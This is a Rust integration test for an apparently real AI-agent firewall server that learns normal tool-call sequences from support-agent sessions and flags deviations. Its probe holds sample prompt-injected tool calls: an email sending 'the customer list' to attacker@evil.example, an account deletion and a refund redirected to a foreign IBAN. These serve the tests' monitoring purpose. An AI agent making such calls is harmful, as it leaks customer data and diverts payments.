//! Observations, agent profiles, telemetry and modes over the API of the real `handrail`
//! binary on 127.0.0.1:0: what the server learns must be what a worker's in-process core
//! firewall learns from the same sessions.

mod common;

use std::io::Read;

use common::Server;
use handrail_core::firewall::{Call, Config, Effect, Firewall, Outcome, Policy, Profile, Verdict};
use handrail_server::store::Role;
use serde_json::{json, Value};

/// Events are dated here and after; probes are checked a day later.
const T0: i64 = 1_700_000_000;
const PROBE_AT: i64 = T0 + 86_400;

/// The agent routes of a server.
trait Agents {
    fn post(&self, token: &str, agent: &str, events: &[Value]) -> (u16, Value);
    fn profile_bytes(&self, token: &str, agent: &str) -> Result<(String, Vec<u8>), u16>;
    fn profile(&self, agent: &str) -> Profile;
}

impl Agents for Server {
    fn post(&self, token: &str, agent: &str, events: &[Value]) -> (u16, Value) {
        self.call("POST", "/v1/observations", token, Some(&json!({ "agent": agent, "events": events })))
    }

    /// The profile's bytes (and its content type), or the status when there is none.
    fn profile_bytes(&self, token: &str, agent: &str) -> Result<(String, Vec<u8>), u16> {
        let response = self.raw("GET", &format!("/v1/agents/{agent}/profile"), token, None);
        if response.status() != 200 {
            return Err(response.status());
        }
        let kind = response.content_type().to_string();
        let mut bytes = Vec::new();
        response.into_reader().read_to_end(&mut bytes).unwrap();
        Ok((kind, bytes))
    }

    fn profile(&self, agent: &str) -> Profile {
        let (kind, bytes) = self.profile_bytes(&self.agent, agent).expect("a stored profile");
        assert_eq!(kind, "application/octet-stream");
        Profile::from_bytes(&bytes).unwrap()
    }
}

/// One observed call, in the API's form.
#[derive(Clone)]
struct Obs {
    id: String,
    session: String,
    context: Option<String>,
    tool: &'static str,
    args: Value,
    effect: Option<&'static str>,
    outcome: &'static str,
    output: Option<String>,
    at: i64,
}

impl Obs {
    fn json(&self) -> Value {
        let mut v = json!({
            "id": self.id, "session": self.session, "tool": self.tool, "args": self.args,
            "outcome": self.outcome, "at": self.at,
        });
        if let Some(c) = &self.context {
            v["context"] = json!(c);
        }
        if let Some(e) = self.effect {
            v["effect"] = json!(e);
        }
        if let Some(o) = &self.output {
            v["output"] = json!(o);
        }
        v
    }
}

/// Tool, args, declared effect, outcome, output.
type StepSpec = (&'static str, Value, Option<&'static str>, &'static str, Option<String>);

/// An honest support session: look the order up, read the customer, refund, tell them.
fn honest_session(n: usize) -> Vec<Obs> {
    let session = format!("s{n}");
    let order = format!("{}", 1000 + n);
    let email = format!("customer{n}@example.com");
    let context = format!("Refund order {order} for {email} and let them know.");
    let at = T0 + n as i64 * 600;
    let steps: Vec<StepSpec> = vec![
        ("search_orders", json!({"query": order}), Some("read"), "ran", Some(format!("order {order}: $20"))),
        ("get_customer", json!({"email": email}), Some("read"), "ran", Some(format!("{email}, since 2021"))),
        (
            "refund",
            json!({"order": order, "amount": 20}),
            Some("payment"),
            if n < 2 { "approved" } else { "ran" },
            None,
        ),
        ("send_email", json!({"to": email, "body": "Your refund is on its way."}), None, "ran", None),
    ];
    steps
        .into_iter()
        .enumerate()
        .map(|(i, (tool, args, effect, outcome, output))| Obs {
            id: format!("{session}-{i}"),
            session: session.clone(),
            context: (i == 0).then(|| context.clone()),
            tool,
            args,
            effect,
            outcome,
            output,
            at: at + i as i64,
        })
        .collect()
}

fn jsons(events: &[Obs]) -> Vec<Value> {
    events.iter().map(Obs::json).collect()
}

/// What a worker's in-process firewall learns from the same sessions, with the same calls.
fn train_locally(sessions: &[Vec<Obs>]) -> Firewall {
    let mut fw = Firewall::new(Policy::default(), Config::default());
    for events in sessions {
        let context = events.iter().find_map(|e| e.context.clone()).unwrap_or_default();
        let mut session = fw.begin(events[0].session.clone(), &context);
        for e in events {
            let effect: Option<Effect> = e.effect.map(|s| s.parse().unwrap());
            let call = Call { tool: e.tool, args: &e.args, effect, cost_usd: None };
            let outcome: Outcome = e.outcome.parse().unwrap();
            fw.record(&mut session, &call, outcome, e.output.as_deref(), e.at);
        }
    }
    fw
}

fn over(profile: Profile) -> Firewall {
    let mut fw = Firewall::new(Policy::default(), Config::default());
    fw.profile = profile;
    fw
}

/// Verdicts on an honest session, a prompt-injected one and a destructive surprise.
fn probe(fw: &Firewall) -> Vec<Verdict> {
    let mut verdicts = Vec::new();
    let context = "Refund order 1001 for customer1@example.com and let them know.";
    let calls: Vec<(&str, Value, Option<Effect>)> = vec![
        ("search_orders", json!({"query": "1001"}), Some(Effect::Read)),
        ("get_customer", json!({"email": "customer1@example.com"}), Some(Effect::Read)),
        ("refund", json!({"order": "1001", "amount": 20}), Some(Effect::Payment)),
        ("send_email", json!({"to": "customer1@example.com", "body": "Done."}), None),
        ("send_email", json!({"to": "attacker@evil.example", "body": "the customer list"}), None),
        ("delete_account", json!({"email": "customer1@example.com"}), None),
        ("refund", json!({"order": "1001", "amount": 20, "to_iban": "DE89370400440532013000"}), None),
    ];
    let mut session = fw.begin("probe", context);
    for (tool, args, effect) in &calls {
        let call = Call { tool, args, effect: *effect, cost_usd: None };
        verdicts.push(fw.check(&session, &call, PROBE_AT));
        fw.observe_only(&mut session, &call, None);
    }
    verdicts
}

fn graph_of(profile: &Profile) -> Value {
    serde_json::to_value(profile.graph(PROBE_AT, &Config::default())).unwrap()
}

#[test]
fn the_served_profile_gives_the_verdicts_of_a_local_firewall_and_replays_change_nothing() {
    let server = Server::fresh("verdicts");
    let sessions: Vec<Vec<Obs>> = (0..6).map(honest_session).collect();
    let first: Vec<Obs> = sessions[..3].concat();
    let second: Vec<Obs> = sessions[3..].concat();
    let (status, answer) = server.post(&server.agent, "support", &jsons(&first));
    assert_eq!((status, &answer), (200, &json!({"accepted": 12, "duplicates": 0})));
    let (status, answer) = server.post(&server.agent, "support", &jsons(&second));
    assert_eq!((status, &answer), (200, &json!({"accepted": 12, "duplicates": 0})));

    let local = train_locally(&sessions);
    let remote = over(server.profile("support"));
    assert_eq!(graph_of(&remote.profile), graph_of(&local.profile));
    assert_eq!(remote.profile.node_count(), local.profile.node_count());
    assert_eq!(remote.profile.edge_count(), local.profile.edge_count());
    let (remote_verdicts, local_verdicts) = (probe(&remote), probe(&local));
    assert_eq!(remote_verdicts, local_verdicts);
    // And the verdicts say something: the honest path passes, the injection is held.
    assert!(remote_verdicts[..4].iter().all(|v| v.action.as_str() == "allow"), "{remote_verdicts:?}");
    assert!(remote_verdicts[4..].iter().all(|v| v.action.as_str() != "allow"), "{remote_verdicts:?}");

    // Replaying a batch: all duplicates, nothing changes (not even a byte of the profile).
    let (_, before) = server.profile_bytes(&server.agent, "support").unwrap();
    let (_, agent_before) = server.call("GET", "/v1/agents/support", &server.agent, None);
    let (status, answer) = server.post(&server.agent, "support", &jsons(&first));
    assert_eq!((status, &answer), (200, &json!({"accepted": 0, "duplicates": 12})));
    let (_, after) = server.profile_bytes(&server.agent, "support").unwrap();
    assert_eq!(before, after);
    let (_, agent_after) = server.call("GET", "/v1/agents/support", &server.agent, None);
    assert_eq!(agent_before, agent_after);

    // The agent, as operators and agents see it.
    let (status, list) = server.call("GET", "/v1/agents", &server.operator, None);
    assert_eq!(status, 200);
    let listed = &list["agents"][0];
    assert_eq!((listed["name"].as_str(), listed["mode"].as_str()), (Some("support"), Some("shadow")));
    assert_eq!(listed["readiness"], serde_json::to_value(local.readiness()).unwrap());
    assert_eq!((listed["calls"].as_u64(), listed["sessions"].as_u64()), (Some(24), Some(6)));
    assert_eq!(list["agents"].as_array().unwrap().len(), 1);
    let t = &agent_after["telemetry"];
    assert_eq!(t["tools"]["refund"]["calls"], 6);
    assert_eq!(t["tools"]["refund"]["outcomes"], json!({"approved": 2, "ran": 4}));
    assert_eq!(t["outcomes"], json!({"approved": 2, "ran": 22}));

    // The graph for the dashboard: every tool and the session start.
    let (status, graph) =
        server.call("GET", "/v1/agents/support/profile?format=graph", &server.operator, None);
    assert_eq!(status, 200);
    let mut tools: Vec<&str> =
        graph["nodes"].as_array().unwrap().iter().map(|n| n["tool"].as_str().unwrap()).collect();
    tools.sort();
    assert_eq!(tools, ["^", "get_customer", "refund", "search_orders", "send_email"]);
    let edges = graph["edges"].as_array().unwrap();
    assert_eq!(edges.len(), 4, "{graph}");
    assert!(edges.iter().all(|e| e["count"] == 6 && e["p"].as_f64().unwrap() > 0.99), "{graph}");
    let (status, err) = server.call("GET", "/v1/agents/support/profile?format=svg", &server.agent, None);
    assert_eq!((status, err["error"]["code"].as_str()), (400, Some("invalid_query")));
}

#[test]
fn a_session_split_over_two_batches_learns_what_it_learns_in_one() {
    let server = Server::fresh("split");
    let events: Vec<Obs> = [honest_session(0), honest_session(1)].concat();
    let (status, _) = server.post(&server.agent, "whole", &jsons(&events));
    assert_eq!(status, 200);
    // Session s0 is cut between get_customer and refund; the second batch repeats one event.
    let (status, answer) = server.post(&server.agent, "split", &jsons(&events[..2]));
    assert_eq!((status, &answer), (200, &json!({"accepted": 2, "duplicates": 0})));
    let (status, answer) = server.post(&server.agent, "split", &jsons(&events[1..]));
    assert_eq!((status, &answer), (200, &json!({"accepted": 6, "duplicates": 1})));

    let (whole, split) = (server.profile("whole"), server.profile("split"));
    assert_eq!(graph_of(&split), graph_of(&whole));
    assert_eq!(split.edge_count(), whole.edge_count());
    assert_eq!(probe(&over(split.clone())), probe(&over(whole)));
    // The cut transition is there, and no session seems to start at the refund.
    let graph = graph_of(&split);
    let id = |tool: &str| {
        graph["nodes"].as_array().unwrap().iter().find(|n| n["tool"] == tool).unwrap()["id"].clone()
    };
    let edge = |from: &str, to: &str| {
        graph["edges"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["from"] == id(from) && e["to"] == id(to))
            .cloned()
    };
    assert_eq!(edge("get_customer", "refund").map(|e| e["count"].clone()), Some(json!(2)));
    assert_eq!(edge("^", "refund"), None);
    let (_, agent) = server.call("GET", "/v1/agents/split", &server.agent, None);
    assert_eq!((agent["sessions"].as_u64(), agent["calls"].as_u64()), (Some(2), Some(8)));
}

#[test]
fn a_malformed_event_is_refused_with_its_index_and_nothing_is_applied() {
    let server = Server::fresh("malformed");
    let good = jsons(&honest_session(0));
    assert_eq!(server.post(&server.agent, "support", &good[..2]).0, 200);
    let (_, before) = server.profile_bytes(&server.agent, "support").unwrap();
    let (_, agent_before) = server.call("GET", "/v1/agents/support", &server.agent, None);

    let with = |field: &str, value: Value| {
        let mut e = good[2].clone();
        e[field] = value;
        e
    };
    let cases: Vec<(Vec<Value>, u16, &str, &str)> = vec![
        (vec![good[2].clone(), with("outcome", json!("exploded"))], 400, "invalid_event", "events[1]"),
        (
            vec![good[2].clone(), good[3].clone(), with("args", json!([1, 2]))],
            400,
            "invalid_event",
            "events[2]",
        ),
        (vec![with("args", json!({"note": "x".repeat(70_000)}))], 400, "invalid_event", "events[0]"),
        (vec![with("output", json!("y".repeat(70_000))), good[3].clone()], 400, "invalid_event", "events[0]"),
        (vec![good[2].clone(), with("effect", json!("teleport"))], 400, "invalid_event", "events[1]"),
        (vec![good[2].clone(), with("cost_usd", json!(-1))], 400, "invalid_event", "events[1]"),
        (vec![good[2].clone(), with("tool", json!(""))], 400, "invalid_event", "events[1]"),
        (vec![good[2].clone(), with("session", json!("has space"))], 400, "invalid_event", "events[1]"),
        (vec![good[2].clone(), with("surprise", json!(1))], 400, "invalid_event", "events[1]"),
        // Trusted history teaches values without a cap: an agent cannot vouch for itself.
        (vec![good[2].clone(), with("outcome", json!("trusted"))], 403, "forbidden", "events[1]"),
    ];
    for (events, status, code, index) in cases {
        let (got, err) = server.post(&server.agent, "support", &events);
        assert_eq!((got, err["error"]["code"].as_str()), (status, Some(code)), "{err}");
        assert!(err["error"]["message"].as_str().unwrap().contains(index), "{err}");
    }
    let many: Vec<Value> = (0..1001).map(|i| with("id", json!(format!("many-{i}")))).collect();
    let (status, err) = server.post(&server.agent, "support", &many);
    assert_eq!((status, err["error"]["code"].as_str()), (400, Some("too_many_events")));
    let (status, err) = server.post(&server.agent, "bad name!", &good[2..]);
    assert_eq!((status, err["error"]["code"].as_str()), (400, Some("invalid_agent")));

    // Nothing of any refused batch was applied: not the profile, not the counters, not the
    // good events beside the bad one (they are still new).
    let (_, after) = server.profile_bytes(&server.agent, "support").unwrap();
    assert_eq!(before, after);
    let (_, agent_after) = server.call("GET", "/v1/agents/support", &server.agent, None);
    assert_eq!(agent_before, agent_after);
    let (status, answer) = server.post(&server.agent, "support", &good[2..]);
    assert_eq!((status, &answer), (200, &json!({"accepted": 2, "duplicates": 0})));
    // An operator may post trusted history.
    let mut trusted = with("outcome", json!("trusted"));
    trusted["id"] = json!("t-1");
    let (status, answer) = server.post(&server.operator, "support", &[trusted]);
    assert_eq!((status, &answer), (200, &json!({"accepted": 1, "duplicates": 0})));
}

#[test]
fn modes_are_for_operators_audited_and_other_projects_see_nothing() {
    let server = Server::fresh("modes");
    assert_eq!(server.post(&server.agent, "support", &jsons(&honest_session(0))).0, 200);
    let mode = |m: &str| json!({ "mode": m });

    let (status, err) = server.call("PUT", "/v1/agents/support/mode", &server.agent, Some(&mode("enforce")));
    assert_eq!((status, err["error"]["code"].as_str()), (403, Some("forbidden")));
    let (status, err) = server.call("PUT", "/v1/agents/support/mode", &server.operator, Some(&mode("loud")));
    assert_eq!((status, err["error"]["code"].as_str()), (400, Some("unknown_variant")));
    let (status, _) = server.call("PUT", "/v1/agents/nobody/mode", &server.operator, Some(&mode("enforce")));
    assert_eq!(status, 404);
    let (status, answer) =
        server.call("PUT", "/v1/agents/support/mode", &server.operator, Some(&mode("enforce")));
    assert_eq!((status, &answer), (200, &json!({"name": "support", "mode": "enforce"})));
    let (_, agent) = server.call("GET", "/v1/agents/support", &server.agent, None);
    assert_eq!(agent["mode"], "enforce");
    // Observations after the change keep the mode.
    assert_eq!(server.post(&server.agent, "support", &jsons(&honest_session(1))).0, 200);
    let (_, agent) = server.call("GET", "/v1/agents/support", &server.agent, None);
    assert_eq!(agent["mode"], "enforce");

    let store = common::open_store(&server.dir);
    let changes: Vec<_> =
        store.audit_log().unwrap().into_iter().filter(|e| e.event == "agent.mode").collect();
    assert_eq!(changes.len(), 1);
    assert_eq!((changes[0].subject.as_str(), &changes[0].data["mode"]), ("support", &json!("enforce")));

    // Another project's keys see nothing of this one.
    store.add_project("prj_other", "other", 0).unwrap();
    let (agent_token, op_token) = ("hr_agent_other", "hr_op_other");
    store.add_key("key_oa", &handrail_server::token_hash(agent_token), "prj_other", Role::Agent, 0).unwrap();
    store.add_key("key_oo", &handrail_server::token_hash(op_token), "prj_other", Role::Operator, 0).unwrap();
    let (_, list) = server.call("GET", "/v1/agents", agent_token, None);
    assert_eq!(list, json!({"agents": []}));
    assert_eq!(server.call("GET", "/v1/agents/support", op_token, None).0, 404);
    assert_eq!(server.profile_bytes(agent_token, "support"), Err(404));
    assert_eq!(server.call("GET", "/v1/agents/support/profile?format=graph", op_token, None).0, 404);
    let (status, _) = server.call("PUT", "/v1/agents/support/mode", op_token, Some(&mode("shadow")));
    assert_eq!(status, 404);
    // The same agent name and event ids in another project are another agent.
    let (_, before) = server.profile_bytes(&server.agent, "support").unwrap();
    let (status, answer) = server.post(agent_token, "support", &jsons(&honest_session(0)));
    assert_eq!((status, &answer), (200, &json!({"accepted": 4, "duplicates": 0})));
    let (_, after) = server.profile_bytes(&server.agent, "support").unwrap();
    assert_eq!(before, after);
    let (_, agent) = server.call("GET", "/v1/agents/support", &server.agent, None);
    assert_eq!((agent["mode"].as_str(), agent["calls"].as_u64()), (Some("enforce"), Some(8)));
    let (_, theirs) = server.call("GET", "/v1/agents/support", agent_token, None);
    assert_eq!((theirs["mode"].as_str(), theirs["calls"].as_u64()), (Some("shadow"), Some(4)));
}

#[test]
fn growth_past_the_node_cap_is_refused_and_the_profile_kept() {
    let server = Server::fresh_with("cap", &[("HANDRAIL_PROFILE_MAX_NODES", "4")]);
    let events = jsons(&honest_session(0));
    assert_eq!(server.post(&server.agent, "support", &events).0, 200);
    let (_, before) = server.profile_bytes(&server.agent, "support").unwrap();
    let extra = json!({"id": "x-1", "session": "s9", "tool": "export_all", "args": {}, "outcome": "ran"});
    let (status, err) = server.post(&server.agent, "support", &[extra]);
    assert_eq!((status, err["error"]["code"].as_str()), (422, Some("profile_full")), "{err}");
    let (_, after) = server.profile_bytes(&server.agent, "support").unwrap();
    assert_eq!(before, after);
    // What stays within the cap is still learned.
    let (status, answer) = server.post(&server.agent, "support", &jsons(&honest_session(1)));
    assert_eq!((status, &answer), (200, &json!({"accepted": 4, "duplicates": 0})));
}
